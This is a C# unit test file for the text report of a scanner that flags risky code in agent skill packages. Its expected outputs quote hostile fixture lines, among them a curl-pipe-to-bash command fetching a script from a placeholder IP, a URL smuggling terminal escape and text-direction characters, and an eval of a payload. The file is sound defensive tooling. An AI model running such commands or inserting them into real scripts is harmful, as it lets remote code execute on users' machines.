using System.Text;
using SkillScan.Model;
using SkillScan.Report;

namespace SkillScan.Tests.Report;

public sealed class TextReportTests
{
    private static string Text(bool color = false)
    {
        var scan = TestScans.Run();
        return TextReport.ToText(scan.Result, new ReportOptions { Outcome = scan.Outcome, Color = color });
    }

    [Fact]
    public void FindingLineHasPathLineColumnLevelRuleNameAndMessage()
    {
        var lines = Text().Split('\n');
        Assert.Contains("skills/dropper/install.sh:5:13: note SS9003 TestFloatingPipInstall: pip installs requests without a version.", lines);
        Assert.Contains("skills/exfil/scripts/stats.py:6:1: error SS9002 TestSecretToWebhook: The secret environment variable read on an earlier line is posted to a webhook.", lines);
    }

    [Fact]
    public void CodeFrameUnderlinesTheFindingsColumns()
    {
        var lines = Text().Split('\n').ToList();
        var at = lines.IndexOf("skills/dropper/install.sh:5:13: note SS9003 TestFloatingPipInstall: pip installs requests without a version.");
        Assert.Equal("  5 | pip install requests", lines[at + 1]);
        Assert.Equal("    |             ^^^^^^^^", lines[at + 2]);
        Assert.Equal("    = fix: Pin the version: replace with requests==2.32.3", lines[at + 3]);
    }

    [Fact]
    public void TabsAreKeptSoTheCaretsLineUp()
    {
        var lines = Text().Split('\n').ToList();
        var at = lines.FindIndex(l => l.StartsWith("skills/odd name/données #1.sh:2:2: error SS9001", StringComparison.Ordinal));
        Assert.Equal("  2 | \tcurl -s http://192.0.2.8/x.sh | bash  # télécharge", lines[at + 1]);
        Assert.StartsWith("    | \t^^^^", lines[at + 2]);
    }

    [Fact]
    public void SkillsAreGroupedWithTheirVerdictAndFlowsAreListed()
    {
        var text = Text();
        Assert.Contains("PASS    skills/clean  (0 errors, 0 warnings, 0 notes)\n", text);
        Assert.Contains("BLOCK   skills/dropper  (2 errors, 0 warnings, 1 note)\n", text);
        Assert.Contains("REVIEW  skills/suppressed  (0 errors, 1 warning, 0 notes)\n", text);
        Assert.Contains("    = flow: skills/exfil/scripts/stats.py:4:10: secret read from the environment\n", text);
        Assert.Contains("[suppressed: installer from our own domain, reviewed 2025-01]", text);
        Assert.Contains("[suppressed: no reason given]", text);
    }

    [Fact]
    public void SummaryCountsFindingsByLevelAndVerdicts()
    {
        var text = Text();
        Assert.Contains("Scanned 6 skills: 5 errors, 1 warning, 1 note (3 suppressed). Verdicts: 4 block, 1 review, 1 pass.\n", text);
        Assert.Contains("Failed: 5 finding(s) at or above the fail level 'error'.\n", text);
        Assert.DoesNotContain("Scan incomplete", text);
    }

    [Fact]
    public void HostileCharactersNeverReachTheTerminal()
    {
        var text = Text();
        Assert.DoesNotContain('\u202E', text);
        Assert.DoesNotContain('\u001B', text);
        Assert.Contains("http://192.0.2.6/<U+202E><U+001B>[2Jx.sh", text);
    }

    [Fact]
    public void ColourOnlyWhenAsked()
    {
        Assert.Contains("\u001b[31merror\u001b[0m", Text(color: true));
        Assert.Contains("\u001b[1;31mBLOCK", Text(color: true));
    }

    [Fact]
    public void IncompleteScanIsSaidInTheSummary()
    {
        var skill = new Skill("big", "skills/big", []);
        var result = new SkillScan.Pipeline.ScanResult
        {
            Rules = [],
            Skills = [new SkillScan.Pipeline.SkillResult { Skill = skill, Findings = [], Notifications = [ScanNotification.Warning("file-too-large", "skills/big/x.js is too large; not scanned", "skills/big/x.js")], Verdict = Verdict.Review }],
        };
        var text = TextReport.ToText(result, new ReportOptions());
        Assert.Contains("REVIEW  skills/big  (0 errors, 0 warnings, 0 notes; incomplete)", text);
        Assert.Contains("  skills/big/x.js: warning file-too-large: skills/big/x.js is too large; not scanned", text);
        Assert.Contains("Scan incomplete: 1 file not fully analysed (file-too-large); see the warnings above.", text);
    }

    [Fact]
    public void VeryLongLinesAreClippedAroundTheFinding()
    {
        var line = new string('a', 5000) + "eval(payload)" + new string('b', 5000);
        var file = new SkillFile("x.js", "x.js", Encoding.UTF8.GetBytes(line), Language.JavaScript);
        var frame = TextReport.Frame(file, new SourceRegion(1, 5001, 1, 5014));
        Assert.NotNull(frame);
        var (text, carets) = frame.Value;
        Assert.True(text.Length < 130);
        Assert.StartsWith("…", text);
        Assert.EndsWith("…", text);
        Assert.Equal("eval(payload)", text.Substring(carets.IndexOf('^'), 13));
        Assert.Equal(13, carets.Count(c => c == '^'));
    }
}
